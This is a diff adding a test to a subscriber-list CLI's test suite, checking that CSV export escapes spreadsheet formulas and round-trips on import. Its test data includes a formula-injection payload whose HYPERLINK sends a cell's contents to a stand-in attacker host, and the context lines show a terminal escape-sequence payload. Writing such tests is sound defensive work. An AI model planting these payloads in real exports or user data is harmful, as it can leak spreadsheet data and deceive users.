@@ -148,4 +148,33 @@ describe.each([sqliteBackend, postgresBackend])('subscriber input on $name', (ba
     expect([...pending.stdout].filter((ch) => ch !== '\n' && /\p{Cc}/u.test(ch))).toEqual([]);
     expect(pending.stdout).toContain('\\x1b[2J\\x1b[H\\x1b[31mALL SUBSCRIBERS DELETED\\x1b[0m\\x07');
   });
+
+  it('export and list --csv write would-be formulas after a quote, and that export imports back exactly', async () => {
+    const { dir, cli, open } = await install(backend);
+    expect((await cli('list')).code).toBe(0);
+    const store = await open();
+    await store.addSubscribers(
+      'daily',
+      [
+        { address: '=1+2@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1;"click")' },
+        { address: 'plus@example.org', name: '+1+2' },
+        { address: 'quote@example.org', name: "'=quoted already" },
+      ],
+      new Date(),
+    );
+    const exported = await cli('export', '--digest', 'daily');
+    expect(exported.stdout).toBe(
+      'email,name\r\n' +
+        `'=1+2@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"\r\n` +
+        "plus@example.org,'+1+2\r\n" +
+        "quote@example.org,''=quoted already\r\n",
+    );
+    expect((await cli('list', '--csv', '--digest', 'daily')).stdout).toContain("'=1+2@example.org,daily,subscriber,\"'=HYPERLINK(");
+    const out = join(dir, 'out.csv');
+    writeFileSync(out, exported.stdout);
+    expect(await cli('import', out, '--digest', 'weekly')).toMatchObject({ code: 0, stderr: '' });
+    const names = async (digestId: string) =>
+      (await store.listSubscribers(digestId, { limit: 10 })).map((subscriber) => [subscriber.address, subscriber.name]);
+    expect(await names('weekly')).toEqual(await names('daily'));
+  });
 });
